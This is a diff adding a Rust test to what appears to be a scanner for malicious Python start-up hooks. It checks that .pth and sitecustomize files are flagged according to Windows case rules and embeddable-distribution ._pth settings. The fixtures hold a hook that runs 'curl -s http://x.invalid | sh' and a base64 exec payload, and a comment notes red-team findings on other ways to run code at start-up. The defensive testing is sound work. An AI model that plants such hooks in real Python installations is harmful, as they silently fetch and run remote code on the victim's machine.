@@ -580,6 +580,120 @@ fn windows_installation_search_order_is_judged() {
     );
 }
 
+/// A Windows disk read from Linux keeps each name as it was made: `LIB\Site-Packages` is the
+/// `Lib\site-packages` Windows opens for `site`, while a module is imported by its exact name
+/// (`SITECUSTOMIZE.py` is not `sitecustomize`). An embeddable distribution (`python312._pth`
+/// beside `python.exe`) runs the `.pth` files of its folder only when its `._pth` says
+/// `import site`.
+#[test]
+fn a_windows_disk_is_read_as_windows_opens_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    let hook = b"import os; os.system('curl -s http://x.invalid | sh')\n";
+    let decode = b"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n";
+    let inst = "Tools/Python311";
+    put(r, &format!("{inst}/python.exe"), b"MZ");
+    put(r, &format!("{inst}/LIB/Site-Packages/e.pth"), hook);
+    put(
+        r,
+        &format!("{inst}/LIB/Site-Packages/sitecustomize.py"),
+        decode,
+    );
+    put(r, &format!("{inst}/top.pth"), hook);
+    let other = "Tools/Python310";
+    put(r, &format!("{other}/python.exe"), b"MZ");
+    put(
+        r,
+        &format!("{other}/Lib/site-packages/SITECUSTOMIZE.py"),
+        decode,
+    );
+    let emb = "App/python";
+    put(r, &format!("{emb}/python.exe"), b"MZ");
+    put(r, &format!("{emb}/python312.dll"), b"MZ");
+    put(
+        r,
+        &format!("{emb}/python312._pth"),
+        b"python312.zip\r\n.\r\n\r\n# Uncomment to run site.main() automatically\r\nimport site\r\n",
+    );
+    put(r, &format!("{emb}/hook.pth"), hook);
+    let quiet = "Game/python";
+    put(r, &format!("{quiet}/python.exe"), b"MZ");
+    put(r, &format!("{quiet}/python311.dll"), b"MZ");
+    put(
+        r,
+        &format!("{quiet}/python311._pth"),
+        b"python311.zip\r\n.\r\nLib\\site-packages\r\n#import site\r\n",
+    );
+    put(r, &format!("{quiet}/hook.pth"), hook);
+    put(r, &format!("{quiet}/Lib/site-packages/dep.pth"), hook);
+    let json = scan_root(r);
+    let found: Vec<(String, String, String)> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            let p = f["location"]["path"].as_str().unwrap();
+            (
+                f["rule"].as_str().unwrap().to_owned(),
+                f["severity"].as_str().unwrap().to_owned(),
+                p.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
+            )
+        })
+        .collect();
+    let at = |rule: &str, path: &str| {
+        found
+            .iter()
+            .filter(|(r, s, p)| r == rule && p == path && (s == "high" || s == "critical"))
+            .count()
+    };
+    for path in [
+        format!("{inst}/LIB/Site-Packages/e.pth"),
+        format!("{inst}/top.pth"),
+        format!("{emb}/hook.pth"),
+    ] {
+        assert_eq!(at("PTH001", &path), 1, "{path}: {found:#?}");
+    }
+    assert_eq!(
+        at(
+            "CUS001",
+            &format!("{inst}/LIB/Site-Packages/sitecustomize.py")
+        ),
+        1,
+        "{found:#?}"
+    );
+    // not start-up hooks: no `import site` in the `._pth`, a module named in another case
+    for path in [
+        format!("{quiet}/hook.pth"),
+        format!("{other}/Lib/site-packages/SITECUSTOMIZE.py"),
+    ] {
+        assert!(
+            !found
+                .iter()
+                .any(|(r, _, p)| p == &path && r != "PAY001" && !r.starts_with("INT")),
+            "{path}: {found:#?}"
+        );
+    }
+    let envs: Vec<(String, String, String)> = json["environments"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            let root = e["root"].as_str().unwrap();
+            (
+                root.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
+                e["kind"].as_str().unwrap().to_owned(),
+                e["python"].as_str().unwrap_or("?").to_owned(),
+            )
+        })
+        .collect();
+    for (root, python) in [(inst, "3.11"), (emb, "3.12"), (quiet, "3.11")] {
+        assert!(
+            envs.contains(&(root.to_owned(), "interpreter".to_owned(), python.to_owned())),
+            "{root} {python}: {envs:#?}"
+        );
+    }
+}
+
 /// Found by the red team: `PYTHONWARNINGS` with a dotted category imports its module before
 /// `site` runs, and `PYTHONOPTIMIZE` makes `…cpython-312.opt-1.pyc` the bytecode that runs
 /// instead of a clean `sitecustomize.py`.
